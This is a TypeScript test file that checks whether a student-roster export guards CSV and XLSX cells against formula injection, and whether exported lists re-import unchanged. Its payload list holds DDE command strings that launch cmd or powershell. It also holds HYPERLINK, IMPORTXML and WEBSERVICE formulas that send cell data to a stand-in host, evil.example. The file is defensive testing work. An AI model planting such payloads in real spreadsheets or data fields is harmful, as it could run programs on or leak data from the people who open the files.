import { createWriteStream, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { read, type WorkSheet } from 'xlsx';
import { headings, makeFolder } from '../../src/main/roster/testing/list-files.ts';
import { createListService } from '../../src/main/roster/testing/list-service.ts';
import { startRosterKit } from '../../src/main/roster/testing/roster-kit.ts';
import { studentExportColumns } from '../../src/server/platform/spreadsheet/student-columns.ts';
import { tableFile } from '../../src/server/platform/spreadsheet/table-file.ts';
import type { StudentFields, StudentRow } from '../../src/shared/contract/students.ts';
import type { RosterField } from '../../src/shared/desk/types.ts';
import { cleanCell } from '../../src/shared/roster/clean.ts';
import { unguardCell } from '../../src/shared/roster/csv.ts';
import { cutText } from '../../src/shared/rules/texts/cut-text.ts';
import { naughtyStrings, publicStrings } from '../support/naughty-strings.ts';

const folder = makeFolder();
afterAll(() => folder.remove());

/** What has been tried to make spreadsheets calculate, start programs or reach out, from the start of a cell. */
const payloads = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', "'=", '"=', ';=', ',=', '|=', '%0A='].map(
    (start) => `${start}1+1`,
  ),
  ...['cmd', 'powershell', 'rundll32', 'msexcel'].flatMap((program) => [
    `=${program}|'/C calc'!A0`,
    `+${program}|' /C notepad'!A1`,
    `@SUM(1+1)*${program}|' /C calc'!A0`,
  ]),
  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A2:E2),"//a/a10")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "-2+3+cmd|' /C calc'!D2",
  '=1+1\u200b',
  '={1;2}',
  '=R1C1',
  '+919820144512+1',
  '-1e999',
  '@import',
  '=IF(1,2,3)',
];

const textFields = ['name', 'course', 'specialization', 'roll_number'] as const;

/** A text as the list stores it; null where the list would not take it. */
function stored(field: RosterField, text: string): string | null {
  const { value, problems } = cleanCell(field, text);
  return problems.some(({ severity }) => severity === 'error') || value === 'CLEAR' ? null : value;
}

function student(number: number, values: Partial<Record<RosterField, string>>): StudentFields {
  return {
    name: values.name || `Student ${number}`,
    course: values.course || 'B.Tech',
    specialization: values.specialization ?? '',
    semester: 1 + (number % 12),
    email: `student${number}@inst.ac.in`,
    phone: number % 3 === 0 ? '' : `+91${9_000_000_001 + number}`,
    // Two students never have one roll number.
    roll_number: values.roll_number
      ? (stored('roll_number', `${cutText(values.roll_number, 40)}.${number}`) ?? '')
      : '',
  };
}

async function exported(students: readonly StudentFields[], format: 'csv' | 'xlsx'): Promise<string> {
  const at = '2026-08-01T00:00:00.000Z';
  const rows = students.map(
    (fields) => ({ ...fields, date_added: at, assigned_opportunities: ['=1+1', 'Two'] }) as unknown as StudentRow,
  );
  async function* chunks() {
    for (let start = 0; start < rows.length; start += 200) yield rows.slice(start, start + 200);
  }
  const { file } = tableFile(
    { name: 'students', sheet: 'Students', columns: studentExportColumns, chunks: chunks() },
    format,
    new Date(at),
  );
  const target = join(folder.path, `${crypto.randomUUID()}.${format}`);
  await pipeline(file instanceof Readable ? file : Readable.from(file), createWriteStream(target));
  return target;
}

/** A list whose texts are hostile wherever the list takes them. */
function hostileStudents(): StudentFields[] {
  const texts = [...payloads, ...naughtyStrings, ...publicStrings];
  expect(payloads.length).toBeGreaterThanOrEqual(40);
  expect(naughtyStrings.length).toBeGreaterThanOrEqual(515);
  return texts.map((text, index) => {
    const values = textFields.map((field) => [field, stored(field, text)] as const);
    return student(
      index + 1,
      Object.fromEntries(values.filter(([, value]) => value !== null)) as Partial<Record<RosterField, string>>,
    );
  });
}

async function uploadedAgain(students: readonly StudentFields[], format: 'csv' | 'xlsx') {
  const service = createListService();
  service.add(...students);
  const own = makeFolder();
  const desk = await startRosterKit(own, service);
  try {
    const upload = await desk.check(await desk.openFile(`students.${format}`, await exported(students, format)));
    const { importId } = upload;
    const page = { warnings: false, identifiers: false, search: '', offset: 0, limit: 200, sort: 'row' } as const;
    const other = await Promise.all(
      (['update', 'error', 'create', 'merged', 'skipped'] as const).map((outcome) =>
        desk.roster['roster.rows']({ importId, outcome, ...page }),
      ),
    );
    return { counts: upload.counts, changed: other.flatMap(({ rows }) => rows) };
  } finally {
    await desk.close();
    own.remove();
  }
}

const starts = /^[=+\-@\t\r\n\0＝＋－＠]/;

describe('an exported list', () => {
  it('starts no formula in a text file, and only phone numbers start with a plus [X-09] [BULK-38]', async () => {
    const students = hostileStudents();
    const text = readFileSync(await exported(students, 'csv'), 'utf8').slice(1);
    const { data } = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' });
    expect(data.flat().filter((cell) => starts.test(cell) && !/^\+91[6-9]\d{9}$/.test(cell))).toEqual([]);
    expect(data[0]?.slice(0, 7)).toEqual(headings);
    const names = data.slice(1, -1).map(([name = '']) => unguardCell(name));
    expect(names).toEqual(students.map(({ name }) => name));
  });

  it('starts no formula in a workbook, where every text is a text [X-09] [BULK-38]', async () => {
    const students = hostileStudents();
    const book = read(readFileSync(await exported(students, 'xlsx')), { cellFormula: true, bookFiles: true });
    const { files } = book as unknown as { readonly files: Record<string, { readonly content: Buffer }> };
    const xml = String(files['xl/worksheets/sheet1.xml']?.content);
    expect(xml).not.toMatch(/<f[ >/]/);
    const kinds = new Set([...xml.matchAll(/<c [^>]*?(?:t="(\w+)")?\/?>/g)].map(([, kind = 'n']) => kind));
    expect([...kinds].sort()).toEqual(['inlineStr', 'n']);
    const sheet = book.Sheets.Students as WorkSheet;
    for (const [index, { phone, roll_number, semester }] of students.entries()) {
      expect([sheet[`F${index + 2}`]?.v ?? '', sheet[`G${index + 2}`]?.v ?? '', sheet[`D${index + 2}`]?.v]).toEqual([
        phone,
        roll_number,
        semester,
      ]);
    }
  });

  it.each(['csv', 'xlsx'] as const)(
    'comes back as unchanged, row by row, whatever it holds (%s) [X-09] [BULK-38]',
    async (format) => {
      const students = hostileStudents();
      const { counts, changed } = await uploadedAgain(students, format);
      expect(changed).toEqual([]);
      expect(counts).toMatchObject({ read: students.length, unchanged: students.length });
    },
  );

  it.each(['csv', 'xlsx'] as const)(
    'comes back as unchanged for any list (%s) [BULK-38]',
    { timeout: 120_000 },
    async (format) => {
      const text = fc.oneof(
        fc.string({ unit: 'grapheme', maxLength: 30 }),
        fc.string({ unit: 'binary', maxLength: 12 }),
      );
      const values = fc.record({ name: text, course: text, specialization: text, roll_number: text });
      await fc.assert(
        fc.asyncProperty(fc.array(values, { minLength: 1, maxLength: 200 }), async (list) => {
          const students = list.map((one, index) => {
            const taken = textFields.map((field) => [field, stored(field, one[field]) ?? ''] as const);
            return student(index + 1, Object.fromEntries(taken) as Partial<Record<RosterField, string>>);
          });
          const { counts, changed } = await uploadedAgain(students, format);
          expect(changed).toEqual([]);
          expect(counts.unchanged).toBe(students.length);
        }),
        { numRuns: 5 },
      );
    },
  );

  it('would start some, were its cells written as they are [X-09]', () => {
    const { data } = Papa.parse<string[]>(Papa.unparse(hostileStudents().map(({ name }) => [name])));
    expect(data.flat().filter((cell) => starts.test(cell)).length).toBeGreaterThan(20);
  });
});
